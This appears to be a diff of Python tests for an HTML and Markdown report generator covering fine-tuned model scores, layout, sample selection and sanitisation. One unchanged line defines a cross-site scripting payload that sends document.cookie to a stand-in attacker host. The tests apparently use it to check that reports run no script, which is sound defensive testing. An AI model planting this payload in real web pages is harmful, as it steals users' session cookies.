@@ -12,10 +12,12 @@ from helpers.page import Page
 from helpers.synthetic import measure_fully, pages, write
 
 from opdcl.results import plots, report
-from opdcl.results.report import pick_samples
-from opdcl.results.scores import load_suites
+from opdcl.results.format import unbroken
+from opdcl.results.samples import RULE, pick_samples
+from opdcl.results.scores import STATES, load_suites
 from opdcl.results.summary import summarise
 from opdcl.results.tables import MISSING
+from opdcl.results.verdict import split
 from opdcl.sanitize import harmless
 
 PAYLOAD = '<script>fetch("https://evil.example/?" + document.cookie)</script><img src=x onerror=alert(1)>'
@@ -46,13 +48,11 @@ def test_a_changed_base_and_a_foreign_adapter_get_notes(run):
 
 def test_html_shows_verdict_scores_plots_cost_and_how_to_reproduce_the_run(trained):
     page = Page(pages(trained)["report.html"])
-    assert page.tags.count("svg") == 4
+    heading, sentence = split(summarise(trained)["verdict"])
     for expected in (
-        summarise(trained)["verdict"].replace(
-            " %", "\N{NO-BREAK SPACE}%"
-        ),  # no line starts with a percent sign
+        heading,
+        unbroken(sentence),
         "80.0 %",
-        "inst_level_loose_acc",
         "7:31",
         "123,456",
         "3.0 GiB",
@@ -68,6 +68,123 @@ def test_html_shows_verdict_scores_plots_cost_and_how_to_reproduce_the_run(train
         word in svg_text
         for word in ("General prompts", "held-out", "Loss in nats", "Retention: instructions")
     )
+
+
+def test_the_page_leads_with_the_verdict_and_folds_the_details(trained):
+    html = pages(trained)["report.html"]
+    order = (
+        "<h1",
+        "<dt>Model</dt>",
+        'class="bars"',
+        "Recovery R",
+        "domain: handbook (%)",
+        'class="verdict"',
+        "Two examples",
+        "<h2>Scores</h2>",
+        "Loss in nats",
+        "<h2>Details</h2>",
+        "Differences on the same prompts",
+        "Teacher ceiling",
+        "All metrics",
+        "Cost",
+        "More examples",
+        "Reproduce",
+    )
+    places = [html.index(text) for text in order]
+    assert places == sorted(places)
+    folded = re.findall(r"<summary>([^<]+)", html[html.index("<h2>Details</h2>") :])
+    assert {"Differences on the same prompts", "Teacher ceiling", "All metrics", "Cost"} <= set(folded)
+    assert "<details open" not in html
+
+
+def test_the_bars_have_the_scores_of_the_summary(run):
+    html, summary = pages(run)["report.html"], summarise(run)
+    blocks = re.findall(r'<div class="bars">.*?</h2>(.*?)</div>\s*</div>', html, re.S)
+    for block, name in zip(blocks, ("instructions", "handbook"), strict=True):
+        shown = re.findall(
+            r'<rect class="(base|tuned|recovered)" width="([\d.]+)%".*?<b>([\d.]+) %</b>', block
+        )
+        score = {state: 100 * summary["suites"][name][state]["value"] for state in STATES}
+        assert {state: (float(width), float(text)) for state, width, text in shown} == {
+            state: pytest.approx((value, value)) for state, value in score.items()
+        }
+    for key in ("recovery", "domain_retention"):
+        assert f"<b>{summary[key]['value']:.2f}</b><small>[{summary[key]['low']:.2f}, " in html
+
+
+def test_low_scores_get_a_shorter_axis_that_is_named(run):
+    for state, passes in (("base", 40), ("tuned", 4), ("recovered", 36)):
+        measure_fully(run, state, "instructions", "retention", set(range(passes)), n=400)
+    html = pages(run)["report.html"]
+    assert "the bars end at 25.0 %" in html
+    assert '<rect class="base" width="40.0%"' in html
+    assert html.count("the bars end at") == 1
+
+
+def test_a_note_is_no_fault(run):
+    html = pages(run)["report.html"]
+    assert summarise(run)["notes"]
+    assert 'aria-label="Notes"' in html
+    assert 'class="faults"' not in html
+    manifest = json.loads(run.manifest.read_text())
+    manifest["base"]["fingerprint_after"] = "deadbeef"
+    write(run.manifest, manifest)
+    summary = summarise(run)
+    assert [f for f in summary["faults"] if f in summary["notes"]] == summary["faults"] != []
+    files = pages(run)
+    faults = files["report.html"].split('class="faults"')[1].split("</section>")[0]
+    assert "The base weights changed" in faults
+    assert files["report.html"].count("The base weights changed") == 1
+    assert all("> **Fault:** The base weights" in files[name] for name in ("report.md", "README.md"))
+
+
+def test_on_a_phone_every_cell_names_its_column(trained):
+    html = pages(trained)["report.html"]
+    tables = re.findall(r"<table>(.*?)</table>", html, re.S)
+    assert len(tables) == 5
+    for table in tables:
+        head, *rows = re.findall(r"<tr>(.*?)</tr>", table, re.S)
+        columns = [
+            re.sub(r"\s*<small>.*", "", c, flags=re.S) for c in re.findall(r"<th[^>]*>(.*?)</th>", head, re.S)
+        ]
+        assert rows
+        for row in rows:
+            named = re.findall(r'<td data-column="([^"]*)"', row)
+            assert [unbroken(name) for name in named] == columns[1:]
+    assert "attr(data-column)" in html
+    assert "overflow-x" not in html
+
+
+def test_the_top_says_which_model_which_rows_and_which_day(run):
+    manifest = json.loads(run.manifest.read_text())
+    manifest["base"]["parameters"] = 134_515_008
+    write(run.manifest, manifest)
+    config = json.loads(run.config.read_text())
+    config["workflow"]["finetune"] = {"data": "/home/me/secret/rows.jsonl", "seed": 11}
+    write(run.config, config)
+    stage = run.stage(1, "finetune")
+    write(stage.record, json.loads(stage.record.read_text()) | {"rows": 1840})
+    top = Page(pages(run)["report.html"].split("<main>")[0].split("</style>")[1]).text
+    for expected in ("SmolLM2-135M-Instruct, 135 M parameters", "rows.jsonl, 1,840 rows", "2 January 2026"):
+        assert expected in top
+    assert "secret" not in top
+    assert "T03:04" not in top
+
+
+def test_scores_of_the_embedded_model_say_that_it_was_quantized(run):
+    assert all("quantized to 4 bits" in page for page in pages(run).values())
+    manifest = json.loads(run.manifest.read_text())
+    manifest["base"]["id"] = "someone/other-model"
+    write(run.manifest, manifest)
+    assert not [name for name, page in pages(run).items() if "quantized" in page]
+
+
+def test_metrics_have_plain_names_and_their_keys_only_in_small_print(run):
+    files = pages(run)
+    scores, details = files["report.md"].split("## Details")
+    assert "answers that meet every constraint" in scores
+    assert "_acc" not in scores.replace("\\", "")
+    assert "constraints met, read loosely (instructions: inst_level_loose_acc)" in details.replace("\\", "")
 
 
 def test_html_loads_nothing_from_outside_and_runs_no_script(trained):
@@ -151,7 +268,7 @@ def test_terminal_escapes_and_bidi_overrides_become_visible():
     assert harmless("line\r\n\ttab ä 漢 👩\u200d🔬") == "line\n\ttab ä 漢 👩\u200d🔬"
 
 
-def test_samples_are_the_first_regained_prompts_and_the_first_lost_ones(run):
+def test_samples_are_grouped_by_what_came_of_the_prompt(run):
     came_back, lost = pick_samples(load_suites(run)[0])
     assert [s["number"] for s in came_back["samples"]] == [8, 9, 10, 11]
     assert (came_back["count"], came_back["of"]) == (20, 24)
@@ -160,6 +277,40 @@ def test_samples_are_the_first_regained_prompts_and_the_first_lost_ones(run):
     kept, gone = pick_samples(load_suites(run)[1])
     assert [s["number"] for s in kept["samples"]] == [4, 5, 6, 7]
     assert [s["number"] for s in gone["samples"]] == [32, 33, 34, 35]
+
+
+READABLE = "A full sentence of ten words reads well right here."
+
+
+def test_the_first_sample_is_the_shortest_readable_one(run):
+    """Prompts 8 to 27 are regained; the first ones are degenerate, cut, too short and long."""
+
+    def fields(i):
+        answers = {
+            8: "#Book Talk Talk Talk Talk Talk Talk Talk Talk Talk Talk Talk",
+            9: "Short.",
+            10: f"{READABLE} It also goes on, with more.",
+            11: READABLE,
+            12: READABLE[2:],
+        }
+        return {
+            "response": answers.get(i, f"{READABLE} Number {i} says a good deal more than that."),
+            "ended": i != 12,
+        }
+
+    for state, passes in (("base", 32), ("tuned", 8), ("recovered", 28)):
+        measure_fully(run, state, "instructions", "retention", set(range(passes)), fields=fields)
+    numbers = [s["number"] for s in pick_samples(load_suites(run)[0])[0]["samples"]]
+    assert numbers[:2] == [11, 10]
+    assert not {8, 9, 12} & set(numbers)
+    text = pages(run)["report.md"]
+    assert RULE.split(";")[0] in text.replace("\\", "")
+    assert text.index("Prompt number 11 of instructions") < text.index("## Scores")
+
+
+def test_a_prompt_is_on_the_page_once(run):
+    html = pages(run)["report.html"]
+    assert [html.count(f"Prompt number {i} of instructions") for i in (8, 9, 28)] == [1, 1, 1]
 
 
 def test_long_answers_are_cut_and_say_so(run):
@@ -174,7 +325,7 @@ def test_a_run_with_only_a_finetune_has_a_report(trained):
     shutil.rmtree(trained.stage(2, "recover").path)
     files = pages(trained)
     assert "Not measured yet" in files["report.html"]
-    assert Page(files["report.html"]).tags.count("svg") == 1
+    assert Page(files["report.html"]).tags.count("svg") == 1  # the loss
     assert "not run" in files["report.html"]
 
 
